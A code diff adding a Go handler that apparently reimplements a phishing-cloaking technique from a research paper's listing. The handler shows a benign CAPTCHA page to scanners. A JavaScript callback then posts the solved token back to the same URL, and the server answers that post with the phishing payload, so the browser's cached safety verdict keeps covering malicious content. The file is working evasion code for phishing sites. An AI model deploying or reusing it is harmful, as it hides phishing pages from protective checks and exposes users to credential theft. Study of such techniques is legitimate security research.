@@ -1,0 +1,56 @@
+package evasion
+
+import (
+	"fmt"
+	"io"
+	"net/http"
+)
+
+// capbackScript is the Go port of Appendix C Listing 1's client side: the
+// CAPTCHA widget's callback dynamically generates a form (the page itself
+// ships no HTML form tag), fills it with the response token, and submits it
+// back to the *same URL*, so the browser's cached safety verdict for that
+// URL keeps covering the now-malicious content.
+const capbackScript = `
+<script>
+function capback(g_response) {
+  var f = document.createElement('form');
+  f.setAttribute('method', 'post');
+  var i = document.createElement('input');
+  i.setAttribute('type', 'hidden');
+  i.setAttribute('name', 'gresponse');
+  i.setAttribute('value', g_response);
+  f.appendChild(i);
+  document.body.appendChild(f);
+  f.submit();
+}
+</script>
+`
+
+// recaptcha implements Listing 1's server side: a POST carrying a gresponse
+// token that verifies against the CAPTCHA service serves the phishing
+// payload; everything else serves the benign CAPTCHA challenge page.
+type recaptcha struct{ opts Options }
+
+func newRecaptcha(opts Options) http.Handler { return &recaptcha{opts: opts} }
+
+func (c *recaptcha) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	if r.Method == http.MethodPost {
+		if err := r.ParseForm(); err == nil {
+			if token := r.PostFormValue("gresponse"); token != "" && c.opts.VerifyToken(token) {
+				c.opts.log(r, ServePayload)
+				c.opts.Payload.ServeHTTP(w, r)
+				return
+			}
+		}
+	}
+	c.opts.log(r, ServeChallenge)
+	html := captureHTML(c.opts.Benign, r)
+	gate := fmt.Sprintf(`
+<div class="captcha-gate">
+  <p>Please verify that you are human to continue.</p>
+  %s
+</div>%s`, c.opts.WidgetHTML, capbackScript)
+	w.Header().Set("Content-Type", "text/html; charset=utf-8")
+	io.WriteString(w, injectBeforeBodyEnd(html, gate))
+}
